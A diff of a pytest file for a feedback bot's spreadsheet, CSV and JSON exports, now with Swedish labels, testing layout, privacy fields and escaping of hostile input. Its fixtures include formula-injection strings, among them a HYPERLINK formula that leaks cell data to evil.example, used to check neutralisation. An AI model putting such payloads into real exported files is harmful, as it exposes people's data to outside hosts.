@@ -12,9 +12,10 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from bot.exports.data import ExportData, Submission, build_export
+from bot.exports.data import ExportData
 from bot.exports.writers import (
     DANGEROUS_PREFIXES,
+    _sheet_title,
     export_dict,
     neutralise,
     sheets,
@@ -24,7 +25,7 @@ from bot.exports.writers import (
 )
 from bot.storage.database import Database
 
-from .conftest import HOSTILE_COMMENTS, insert_feedback
+from .conftest import HOSTILE_COMMENTS, build, insert_feedback
 
 INJECTIONS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -68,8 +69,9 @@ async def hostile_export(tmp_path: Path) -> ExportData:
                 "INSERT INTO unanswered_questions (id, week, lang, question) "
                 "VALUES ('q1', '2026-W40', 'sv', '=1+2')"
             )
-        await db.count_deeplink("-tag", dt.date(2026, 10, 1))
-        return await build_export(db)
+        for _ in range(5):  # tags under five starts are pooled, never listed
+            await db.count_deeplink("-tag", dt.date(2026, 10, 1))
+        return await build(db, "2026-T3")
     finally:
         await db.close()
 
@@ -101,51 +103,75 @@ async def test_xlsx_has_no_formula_cells(tmp_path: Path) -> None:
 
 async def test_xlsx_replaces_characters_xml_cannot_hold(tmp_path: Path) -> None:
     data = await hostile_export(tmp_path)
-    sheet = load_workbook(write_xlsx(data, tmp_path / "e.xlsx"))["Submissions"]
-    comments = [row[5] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    sheet = load_workbook(write_xlsx(data, tmp_path / "e.xlsx"))["Kommentarer"]
+    comments = [row[-1] for row in sheet.iter_rows(min_row=2, values_only=True)]
     assert "bell\ufffd and nul\ufffd" in comments
 
 
 async def test_xlsx_layout(export_data: ExportData, tmp_path: Path) -> None:
     path = write_xlsx(export_data, tmp_path / "export.xlsx")
     workbook = load_workbook(path)
-    expected = ["About", "Submissions"] + [t.title for t in export_data.tables]
-    assert workbook.sheetnames == [*expected, "Unanswered questions"]
+    expected = ["Om exporten", "Kommentarer", "Utveckling per månad"]
+    # Sheet names as Excel allows them: "Var detta till hjälp?" loses its question mark.
+    expected += [_sheet_title(t.title) for t in export_data.tables]
+    assert workbook.sheetnames == [*expected, "Obesvarade frågor"]
     for sheet in workbook.worksheets:
         assert sheet.freeze_panes == "A2"
         assert all(cell.font.bold for cell in sheet[1])
         assert sheet.column_dimensions["A"].width >= 8
-    submissions = workbook["Submissions"]
-    header = [c.value for c in submissions[1]]
-    assert header == ["Week", "Language", "Service", "Rating", "Respect", "Comment"]
-    assert "Age band" not in header and "Municipality" not in header
-    assert submissions.max_row == len(export_data.submissions) + 1
-    longest = max(len(s.comment or "") for s in export_data.submissions)
-    assert submissions.column_dimensions["F"].width == min(longest + 2, 80)
-    assert submissions["F2"].alignment.wrap_text  # long comments wrap instead of running on
-    services = workbook["Ratings by service"]
-    assert services["A2"].value == "School or mother-tongue tuition"
+        if sheet.max_row > 1:  # staff can filter every sheet
+            last = sheet.cell(1, sheet.max_column).column_letter
+            assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
+    comments = workbook["Kommentarer"]
+    header = [c.value for c in comments[1]]
+    assert header == [
+        "Referens",
+        "Tema",
+        "Verksamhet",
+        "Kommun",
+        "Månad",
+        "Språk",
+        "Behöver översättas",
+        "Betyg (1–5)",
+        "Betyg",
+        "Betygsgrupp",
+        "Bemött med respekt",
+        "Hanterad",
+        "Godkänd för citat",
+        "Kommentar",
+    ]
+    assert "Åldersgrupp" not in header
+    themes = sum(len(c.themes) for c in export_data.comments)
+    assert comments.max_row == themes + 1  # a comment is listed under each of its themes
+    ratings = [row[7] for row in comments.iter_rows(min_row=2, values_only=True)]
+    labels = [row[8] for row in comments.iter_rows(min_row=2, values_only=True)]
+    assert all(isinstance(r, int) and 1 <= r <= 5 for r in ratings if r is not None)
+    assert all(str(label).startswith(str(r)) for r, label in zip(ratings, labels, strict=True) if r)
+    assert comments["N2"].alignment.wrap_text  # long comments wrap instead of running on
+    translate = {row[5]: row[6] for row in comments.iter_rows(min_row=2, values_only=True)}
+    assert translate.get("Romani chib") == "Ja" and translate.get("Svenska") is None
+    services = workbook["Betyg per verksamhet"]
+    assert services["A2"].value == "Modersmålsundervisning"
     numbers = [c.value for row in services.iter_rows(min_row=2) for c in row[1:]]
     assert any(isinstance(v, int) for v in numbers)
     assert all(isinstance(v, int) or v in {"<5", "x"} for v in numbers)
-    assert services.cell(services.max_row, 1).value == "Total"
+    assert services.cell(services.max_row, 1).value == "Totalt"
 
 
 async def test_csv_files(export_data: ExportData, tmp_path: Path) -> None:
     files = write_csv(export_data, tmp_path / "csv")
     names = [p.name for p in files]
-    assert names[:2] == ["about.csv", "submissions.csv"]
+    assert names[:2] == ["about.csv", "comments.csv"]
     assert {f"{t.key}.csv" for t in export_data.tables} <= set(names)
     assert "unanswered_questions.csv" in names
     for path in files:
         raw = path.read_bytes()
         assert raw.startswith(b"\xef\xbb\xbf"), path.name  # UTF-8 byte order mark for Excel
         raw.decode("utf-8-sig")
-    with (tmp_path / "csv" / "submissions.csv").open(encoding="utf-8-sig", newline="") as handle:
+    with (tmp_path / "csv" / "comments.csv").open(encoding="utf-8-sig", newline="") as handle:
         rows = list(csv.reader(handle, delimiter=";"))
-    assert rows[0] == ["Week", "Language", "Service", "Rating", "Respect", "Comment"]
-    assert len(rows) == len(export_data.submissions) + 1
-    comments = {row[5] for row in rows[1:]}
+    assert rows[0][0] == "Referens" and rows[0][-1] == "Kommentar"
+    comments = {row[-1] for row in rows[1:]}
     for text in HOSTILE_COMMENTS:
         assert (neutralise(text) if text.startswith(DANGEROUS_PREFIXES) else text) in comments
     assert '\'=HYPERLINK("http://evil.example","click")' in comments
@@ -159,7 +185,7 @@ async def test_csv_neutralises_every_cell(tmp_path: Path) -> None:
             for row in csv.reader(handle, delimiter=";"):
                 for value in row:
                     assert not value.startswith(DANGEROUS_PREFIXES), (path.name, value)
-    deeplinks = (tmp_path / "csv" / "deeplink_sources.csv").read_text(encoding="utf-8-sig")
+    deeplinks = (tmp_path / "csv" / "deeplinks.csv").read_text(encoding="utf-8-sig")
     assert "'-tag" in deeplinks
 
 
@@ -167,12 +193,13 @@ async def test_json(export_data: ExportData, tmp_path: Path) -> None:
     path = write_json(export_data, tmp_path / "export.json")
     loaded = json.loads(path.read_text(encoding="utf-8"))
     assert loaded == json.loads(json.dumps(export_dict(export_data)))
-    assert len(loaded["submissions"]) == len(export_data.submissions)
-    assert set(loaded["submissions"][0]) == {f for f in Submission.__dataclass_fields__}
-    assert set(HOSTILE_COMMENTS) <= {s["comment"] for s in loaded["submissions"]}
-    table = loaded["tables"]["service_rating"]
-    assert table["header"][0] == "Service"
-    assert table["rows"][-1][0] == "Total"
+    assert loaded["period"] == "2026" and loaded["scope"] is None
+    assert len(loaded["comments"]) == len(export_data.comments)
+    assert "age_band" not in loaded["comments"][0]
+    assert set(HOSTILE_COMMENTS) <= {c["comment"] for c in loaded["comments"]}
+    table = loaded["tables"]["services"]
+    assert table["header"][0] == "Verksamhet"
+    assert table["rows"][-1][0] == "Totalt"
     assert not table["withheld"]
     assert "Bra hjälp med skolan" in path.read_text(encoding="utf-8")  # not \\u-escaped
 
